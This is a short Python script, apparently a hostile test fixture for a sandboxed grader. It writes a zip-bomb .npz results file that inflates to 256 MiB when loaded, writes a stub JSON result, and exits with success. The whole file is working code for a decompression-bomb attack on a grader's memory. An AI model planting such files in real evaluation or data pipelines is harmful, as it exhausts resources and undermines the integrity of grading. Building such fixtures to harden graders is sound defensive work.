"""HOSTILE: at import it writes a result whose arrays file is a zip bomb, then exits with status 0.

results/0.npz is a valid .npz holding one deflated member "h.npy": about 256 kB on disk, 256 MiB of float64
zeros once loaded. The child's file-size limit bounds the bytes on disk, not what they decompress to
(deflate reaches ~1000:1), so a grader that np.load()s whatever the child left behind can be made to
allocate about a thousand times the child's file-size limit.
"""

import json
import os
import zipfile

import numpy as np

MIB = 1 << 20
DECLARED_BYTES = 256 * MIB
ZEROS = bytes(MIB)

os.makedirs("results", exist_ok=True)
header = np.lib.format.header_data_from_array_1_0(np.zeros(0))
header["shape"] = (DECLARED_BYTES // 8,)
with zipfile.ZipFile(os.path.join("results", "0.npz"), "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
    with archive.open("h.npy", "w", force_zip64=True) as member:
        np.lib.format.write_array_header_1_0(member, header)
        for _ in range(DECLARED_BYTES // MIB):
            member.write(ZEROS)
with open(os.path.join("results", "0.json"), "w") as handle:
    json.dump({"floats": {}, "bad_types": {}}, handle)
os._exit(0)
